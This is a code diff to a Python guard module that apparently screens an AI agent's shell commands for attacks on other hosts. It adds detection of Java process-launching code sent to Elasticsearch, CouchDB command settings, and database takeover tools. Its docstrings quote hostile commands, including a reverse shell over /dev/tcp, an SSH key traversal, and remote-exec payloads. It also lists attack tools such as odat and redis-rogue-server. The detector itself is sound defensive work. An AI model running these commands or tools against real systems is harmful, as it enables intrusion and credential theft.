@@ -21,7 +21,10 @@ purpose does, so each finding is :data:`~agentbus.guards.verdict.SERVICE_ATTACK`
 - an HTTP client whose URL climbs out of the server's web root (``curl --path-as-is
   http://h/../../home/u/.ssh/id_rsa``, ``%2e%2e%2f``): a path traversal, never a page a site serves;
   or that sends a reverse shell in a URL, a form field or a body (``curl h/shell.php --data-urlencode
-  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine.
+  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine; or
+  that sends code starting a process for a server to run (an Elasticsearch script calling
+  ``Runtime.getRuntime().exec``) or sets the command CouchDB runs as a query server;
+- database takeover tools (``odat``, ``redis-rogue-server.py``) pointed at another host.
 
 Port scans of a host or a LAN stay discovery (:mod:`.scanning` asks for sweeps of the internet);
 password guessing is :mod:`.cracking`'s; a tool asked for its help or version sends nothing.
@@ -57,11 +60,15 @@ _ENUMERATORS = frozenset({
     "ident-user-enum", "nfsshell",
 })  # fmt: skip
 """Programs that list another host's accounts, shares and services to attack next."""
-_TOOLS = _BRUTE_FORCERS | _VULNERABILITY_SCANNERS | _ENUMERATORS
+_DATABASE_ATTACKERS = frozenset({"odat", "redis-rogue-server"})
+"""Programs that take over a database server: ODAT (Oracle's scheduler jobs, Java, ``UTL_FILE`` writes,
+external tables), a rogue Redis master that ships a module to its replica."""
+_TOOLS = _BRUTE_FORCERS | _VULNERABILITY_SCANNERS | _ENUMERATORS | _DATABASE_ATTACKERS
 _PUBLISHED_SCRIPTS = frozenset({
     "finger-user-enum.pl", "smtp-user-enum.pl", "ident-user-enum.pl", "enum4linux.pl", "enum4linux-ng.py",
     "dirsearch.py", "sqlmap.py", "xsstrike.py", "nosqlmap.py", "tplmap.py", "sstimap.py",
     "nikto.pl", "ldapdomaindump.py", "windapsearch.py", "rpcdump.py", "samrdump.py", "lookupsid.py",
+    "odat.py", "redis-rogue-server.py",
 })  # fmt: skip
 """The tools published as scripts and run by their file's name (``./finger-user-enum.pl -U names -t H``)."""
 _INTERPRETERS = frozenset({"perl", "ruby"})
@@ -118,7 +125,11 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
     name = invocation.name
     values = _values(invocation)
     if name in _HTTP_CLIENTS:
-        return _traversal(invocation, values) or _injected_shell(invocation, values)
+        return (
+            _traversal(invocation, values)
+            or _injected_shell(invocation, values)
+            or _server_code(invocation, values)
+        )
     if name == "nmap":
         return _nmap_attack(invocation, values)
     if name in ("dig", "host", "drill"):
@@ -132,6 +143,8 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
         why = f"{tool} guesses a site's hidden paths from a word list"
     elif tool in _VULNERABILITY_SCANNERS:
         why = f"{tool} probes a site for flaws to exploit"
+    elif tool in _DATABASE_ATTACKERS:
+        why = f"{tool} takes over a database server to run commands or write files on its machine"
     else:
         why = f"{tool} lists another host's users, shares or services to attack"
     return _verdict(SERVICE_ATTACK, invocation, why)
@@ -212,6 +225,29 @@ def _injected_shell(invocation: Invocation, values: list[str]) -> Verdict | None
             _PERCENT.sub(_decoded, value.replace("+", " ")) if "%" in value or "+" in value else value
         ):
             why = f"sends a reverse shell for another machine to run ({value[:80]})"
+            return _verdict(SERVICE_ATTACK, invocation, why)
+    return None
+
+
+_PROCESS_CODE = lazy_compile(
+    r"\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\bProcessBuilder\s*\(|\bjava\.lang\.Runtime\b"
+)
+"""Java (Groovy, Painless, MVEL, OGNL) that starts a process: ``Runtime.getRuntime().exec("id")``."""
+_COUCHDB_COMMANDS = lazy_compile(r"/_config/(?:query_servers|os_daemons)/", re.IGNORECASE)
+"""CouchDB's settings whose value is a command the server runs (a query server, a daemon)."""
+
+
+def _server_code(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``curl h:9200/_search -d '{"script_fields":{"x":{"script":"…getRuntime().exec(\\"id\\")…"}}}'``:
+    code that starts a process sent for a server to run (Elasticsearch's scripts, an expression
+    language's field); ``curl -X PUT h:5984/_node/…/_config/query_servers/cmd -d '"CMD"'``: a command
+    CouchDB runs, set through its API."""
+    for value in values:
+        if ("exec" in value or "Runtime" in value or "Process" in value) and _PROCESS_CODE.search(value):
+            why = f"sends code that starts a process for a server to run ({value[:80]})"
+            return _verdict(SERVICE_ATTACK, invocation, why)
+        if "_config" in value and _COUCHDB_COMMANDS.search(value):
+            why = f"sets a command for CouchDB to run ({value[:80]})"
             return _verdict(SERVICE_ATTACK, invocation, why)
     return None
 
